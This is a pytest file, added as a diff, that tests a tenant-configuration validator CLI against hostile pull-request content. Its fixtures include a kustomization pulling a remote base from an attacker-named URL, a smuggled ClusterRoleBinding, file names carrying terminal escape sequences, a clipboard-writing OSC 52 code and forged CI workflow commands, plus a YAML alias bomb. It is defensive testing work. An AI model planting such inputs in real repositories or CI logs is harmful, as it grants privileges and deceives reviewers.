@@ -1,0 +1,94 @@
+"""What a pull-request author can put in a partner's folder to get past `tenantry validate` or to
+mislead the reviewer reading its output (an attacker's review of the CLI, 3 Dec).
+
+Tested here (the installed command, under a timeout and a memory cap):
+- whatever Flux or Argo CD would apply from a partner's folder without the checks is a finding: a
+  kustomization.yaml (patches, remote bases), a Chart.yaml, any object that is not a Tenant,
+  Branding, FeatureSet or Deal, and .json or .jsonnet files (read by Flux and Argo CD, not by
+  validate)
+- a file name or key with a line break, an escape sequence or a bidirectional control reaches the
+  terminal and the plan job's log escaped: no line of the output starts a workflow command
+- YAML that Go (kubectl, kustomize, Flux) reads otherwise than PyYAML: a key twice, unquoted y/n,
+  sexagesimal numbers; a slug with a final line break (Python's `$` matches before it)
+- a scalar alias repeated 20,000 times is refused at once (it multiplied in every error message)
+- hostile types where a mapping or a list belongs (kind, metadata, labels, domains) get a finding,
+  and the run ends normally (exit 1, not an internal error)
+"""
+
+from __future__ import annotations
+
+import json
+import shutil
+from pathlib import Path
+
+import pytest
+
+from tests.unit.test_cli_files import ACME, COMMAND, EXAMPLES, TENANT, bounded, of, run_validate
+from tests.unit.test_cli_validate import write
+
+GOOD = TENANT.format(name="gut", namespace="partner-acme-it")
+
+
+@pytest.fixture
+def repo(tmp_path: Path) -> Path:
+    return Path(shutil.copytree(EXAMPLES, tmp_path / "repo"))
+
+
+def test_what_flux_or_argo_would_apply_unchecked_is_a_finding(repo: Path) -> None:
+    write(repo, ACME + "/kustomization.yaml",
+          "apiVersion: kustomize.config.k8s.io/v1beta1\nkind: Kustomization\nresources:\n"
+          "- https://raw.githubusercontent.com/attacker/x/main/tenant.yaml\n")
+    write(repo, ACME + "/Chart.yaml", "apiVersion: v2\nname: x\nversion: 0.1.0\n")
+    write(repo, ACME + "/sneaky.yaml", GOOD + "---\napiVersion: rbac.authorization.k8s.io/v1\n"
+          "kind: ClusterRoleBinding\nmetadata: {name: mine}\n")
+    write(repo, ACME + "/evil.json", json.dumps({"apiVersion": "tenantry.dev/v1alpha1", "kind": "Tenant"}))
+    write(repo, ACME + "/lib/evil.jsonnet", "{}")
+    findings = run_validate(repo)
+    assert any("Kustomization under tenants/" in f["message"] for f in of(findings, "kustomization.yaml"))
+    assert any("without a kind under tenants/" in f["message"] for f in of(findings, "Chart.yaml"))
+    assert [f["message"][:35] for f in of(findings, "sneaky.yaml")] == ["a ClusterRoleBinding under tenants/"]
+    for name in ("evil.json", "lib/evil.jsonnet"):
+        assert any("Flux and Argo CD apply it" in f["message"] for f in of(findings, name)), name
+    # Outside the partners' folders such files are not tenantry's business.
+    write(repo, "flux/extra.json", "{}")
+    assert of(run_validate(repo), "flux/extra.json") == []
+
+
+def test_names_and_keys_reach_the_terminal_and_the_ci_log_escaped(repo: Path) -> None:
+    name = "ok.yaml\n::group::forged\x1b]52;c;ZXZpbA==\x07\u202e.yaml"
+    write(repo, f"{ACME}/{name}", GOOD.replace("gut", "gut2") + '  "\\e[2Jfake.yaml:1: ok": 1\n')
+    for command in ([COMMAND, "validate", str(repo)],
+                    [COMMAND, "plan", "--kubeconfig", "/dev/null", "--repo", str(repo), str(repo / ACME)]):
+        result = bounded(command)
+        assert result.returncode == 1, result.stderr
+        output = result.stdout + result.stderr
+        assert "\\x0a::group::forged\\x1b]52" in output and "\\u202e" in output, output
+        assert not any(line.startswith("::") for line in output.splitlines())
+        assert "\x1b" not in output and "\u202e" not in output
+        assert 'spec["\\u001b[2Jfake.yaml:1: ok"]' in output, output
+
+
+@pytest.mark.parametrize(("text", "words"), [
+    (GOOD + "  plan: {featureSet: business, seats: 9}\n", 'the key "plan" appears twice'),
+    (GOOD.replace("company: Test GmbH", "company: N"), 'the unquoted value "N"'),
+    (GOOD.replace("seats: 5", "seats: 1:30"), 'the unquoted value "1:30"'),
+    (GOOD.replace("name: gut", 'name: "admin\\n"'), "does not match"),
+    ("a: &x " + "x" * 400_000 + "\nb: [" + ", ".join(["*x"] * 20_000) + "]\n", "aliases (*name) are not allowed"),
+])
+def test_yaml_read_otherwise_by_kubectl_is_refused(repo: Path, text: str, words: str) -> None:
+    write(repo, ACME + "/odd.yaml", text)
+    mine = of(run_validate(repo), ACME + "/odd.yaml")
+    assert any(words in f["message"] for f in mine), mine
+
+
+@pytest.mark.parametrize("hostile", [
+    "apiVersion: tenantry.dev/v1alpha1\nkind: [Tenant]\nmetadata: {name: x}\n",
+    "apiVersion: tenantry.dev/v1alpha1\nkind: Tenant\nmetadata: just-a-string\n",
+    GOOD.replace("metadata: {", "metadata: {annotations: 1, "),
+    GOOD.replace("metadata: {", "metadata: {labels: [x], "),
+    GOOD + "  domains: 1\n",
+    GOOD.replace("plan: {featureSet: business, seats: 5}", "plan: business"),
+])
+def test_hostile_types_are_findings_not_crashes(repo: Path, hostile: str) -> None:
+    write(repo, ACME + "/typed.yaml", hostile)
+    assert of(run_validate(repo), ACME + "/typed.yaml"), "no finding"
